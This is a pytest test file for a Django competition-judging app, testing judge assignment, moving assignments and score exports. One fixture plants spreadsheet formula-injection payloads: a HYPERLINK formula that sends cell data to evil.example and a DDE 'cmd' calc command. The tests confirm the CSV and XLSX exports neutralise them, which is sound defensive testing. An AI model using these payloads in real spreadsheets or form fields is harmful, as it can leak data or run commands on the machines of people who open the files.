"""The round's assign action, assignments page, move form and exports."""

import csv
import html
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from judging.models import JudgeAssignment
from judging.setup import assign_round
from tests.factories import EntryFactory
from tests.support.judging import build_world, judge, score
from tests.support.staff import sign_in


@pytest.fixture
def editor_client(client, world):
    sign_in(client, world.editor)
    return client


def text(response) -> str:
    return html.unescape(response.content.decode())


def url(name, judging_round, *args) -> str:
    return reverse(f"judginground:{name}", args=[judging_round.pk, *args])


def test_assign_asks_first_then_assigns(editor_client, world):
    page = editor_client.get(url("assign", world.round))
    assert page.status_code == 200
    assert not JudgeAssignment.objects.exists()
    assert "Entries to judge" in text(page)
    response = editor_client.post(url("assign", world.round))
    assert response.status_code == 302
    assert response["Location"] == url("assignments", world.round)
    assert JudgeAssignment.objects.filter(round=world.round).count() == 8
    followed = editor_client.get(response["Location"])
    assert "8 new assignments for 4 entries and 3 judges." in text(followed)


def test_assign_refusal_is_shown_with_400(editor_client, world):
    world.round.panel.all().delete()
    response = editor_client.post(url("assign", world.round))
    assert response.status_code == 400
    assert "Add judges to the round's panel first." in text(response)


def test_the_edit_page_links_to_assigning(editor_client, world):
    response = editor_client.get(url("edit", world.round))
    assert url("assign", world.round) in text(response)
    assert url("assignments", world.round) in text(response)
    listing = editor_client.get(reverse("judginground:index"))
    assert url("assignments", world.round) in text(listing)


@pytest.fixture
def assigned(world):
    assign_round(round=world.round, actor=world.editor)
    return world


def test_assignments_page_shows_judges_and_progress(editor_client, assigned):
    done = JudgeAssignment.objects.filter(round=assigned.round).first()
    score(done, 8, 9)
    response = editor_client.get(url("assignments", assigned.round))
    assert response.status_code == 200
    body = text(response)
    for entry in assigned.entries:
        assert entry.title in body
    assert "submitted" in body and "not started" in body
    assert "1 of 2 scored" in body
    # The scored assignment has no move form; the others have.
    assert f'name="assignment" value="{done.pk}"' not in body
    other = JudgeAssignment.objects.filter(round=assigned.round).exclude(pk=done.pk)[0]
    assert f'name="assignment" value="{other.pk}"' in body


def move_target(world, assignment):
    holders = set(
        JudgeAssignment.objects.filter(
            round=world.round, entry=assignment.entry
        ).values_list("judge_id", flat=True)
    )
    return next(j for j in world.judges if j.pk not in holders)


def test_move_form_moves(editor_client, assigned):
    assignment = JudgeAssignment.objects.filter(round=assigned.round).first()
    target = move_target(assigned, assignment)
    response = editor_client.post(
        url("move", assigned.round),
        {"assignment": assignment.pk, "to_judge": target.pk},
    )
    assert response.status_code == 302
    assignment.refresh_from_db()
    assert assignment.judge == target


def test_a_refused_move_is_shown_back_with_400(editor_client, assigned):
    assignment = JudgeAssignment.objects.filter(round=assigned.round).first()
    outsider = judge("outsider")
    response = editor_client.post(
        url("move", assigned.round),
        {"assignment": assignment.pk, "to_judge": outsider.pk},
    )
    assert response.status_code == 400
    assert "is not on this round's panel" in text(response)
    assignment.refresh_from_db()
    assert assignment.judge != outsider


@pytest.mark.parametrize(
    "data",
    [
        {"assignment": "x", "to_judge": "1"},
        {"assignment": "999999", "to_judge": "1"},
        {"assignment": "²", "to_judge": "1"},  # a digit to isdigit(), not to int()
        {"assignment": "9" * 30, "to_judge": "1"},
    ],
)
def test_move_of_an_unknown_assignment_is_404(editor_client, assigned, data):
    assert editor_client.post(url("move", assigned.round), data).status_code == 404


def test_move_of_another_rounds_assignment_is_404(
    editor_client, assigned, competition_index
):
    other = build_world(competition_index, entries=1, judges=2, k=1, prefix="b_")
    assign_round(round=other.round, actor=other.editor)
    theirs = JudgeAssignment.objects.get(round=other.round)
    response = editor_client.post(
        url("move", assigned.round),
        {"assignment": theirs.pk, "to_judge": assigned.judges[0].pk},
    )
    assert response.status_code == 404


@pytest.mark.parametrize("to_judge", ["", "²", "9" * 30])
def test_move_without_a_judge_is_400(editor_client, assigned, to_judge):
    assignment = JudgeAssignment.objects.filter(round=assigned.round).first()
    response = editor_client.post(
        url("move", assigned.round),
        {"assignment": assignment.pk, "to_judge": to_judge},
    )
    assert response.status_code == 400
    assert "Choose a judge from the panel." in text(response)


def grow(world, entries: int) -> None:
    for _n in range(entries):
        EntryFactory(competition=world.competition, approved=True)
    assign_round(round=world.round, actor=world.editor)
    unscored = JudgeAssignment.objects.filter(round=world.round, sheet__isnull=True)
    for assignment in unscored[:3]:
        score(assignment, 4, 5)


def test_assignments_page_query_count_does_not_grow(
    editor_client, assigned, django_assert_max_num_queries
):
    page = url("assignments", assigned.round)
    editor_client.get(page)  # warm per-session caches
    grow(assigned, 0)
    with django_assert_max_num_queries(25) as small:
        assert editor_client.get(page).status_code == 200
    grow(assigned, 26)
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = editor_client.get(page)
    assert response.status_code == 200
    assert len(response.context["rows"]) == 30


# Exports.

NASTY = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def scored_nasty(assigned):
    entry = assigned.entries[0]
    entry.title = NASTY
    entry.save()
    for assignment in JudgeAssignment.objects.filter(round=assigned.round, entry=entry):
        score(assignment, 10, 5).comment = "+cmd|' /C calc'!A0"
    sheet = JudgeAssignment.objects.filter(round=assigned.round, entry=entry)[0].sheet
    sheet.comment = "@SUM(1+1)"
    sheet.save()
    return assigned


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_scores_by_judge_csv_escapes_formulas(editor_client, scored_nasty):
    response = editor_client.get(
        url("export", scored_nasty.round, "scores-by-judge", "csv")
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    assert rows[0][:5] == ["Judge", "Entry id", "Entry", "Criterion 1", "Criterion 2"]
    titles = [row[2] for row in rows[1:]]
    assert "'" + NASTY in titles
    assert NASTY not in titles
    assert "'@SUM(1+1)" in [row[-1] for row in rows[1:]]
    # Weighted: (2 * 10/10 + 3 * 5/10) / 5 = 70 %.
    nasty_rows = [row for row in rows[1:] if row[2] == "'" + NASTY]
    assert {row[5] for row in nasty_rows} == {"70.0"}
    assert len(rows) == 1 + 8


def test_scores_by_entry_xlsx_escapes_formulas(editor_client, scored_nasty):
    response = editor_client.get(
        url("export", scored_nasty.round, "scores-by-entry", "xlsx")
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:5] == ("Entry id", "Entry", "Entrant", "Judges", "Sheets submitted")
    nasty = next(row for row in rows[1:] if row[1] == "'" + NASTY)
    assert nasty[3] == 2 and nasty[4] == 2
    assert nasty[5] == 10 and nasty[6] == 5
    assert nasty[7] == 70
    for cell in sheet.iter_rows():
        for item in cell:
            assert item.data_type != "f"
    assert len(rows) == 1 + 4


@pytest.mark.parametrize(
    ("table", "file_format"), [("ranking", "csv"), ("scores-by-judge", "pdf")]
)
def test_unknown_exports_are_404(editor_client, world, table, file_format):
    response = editor_client.get(url("export", world.round, table, file_format))
    assert response.status_code == 404


def test_assignments_page_links_to_the_exports(editor_client, world):
    body = text(editor_client.get(url("assignments", world.round)))
    assert url("export", world.round, "scores-by-judge", "xlsx") in body
    assert url("export", world.round, "scores-by-entry", "csv") in body


def test_a_round_of_another_competition_is_shown_for_its_own(
    editor_client, world, competition_index
):
    """Editors see every round; a missing round is a 404."""
    assert editor_client.get(url("assignments", world.round)).status_code == 200
    response = editor_client.get(
        reverse("judginground:assignments", args=[world.round.pk + 999])
    )
    assert response.status_code == 404
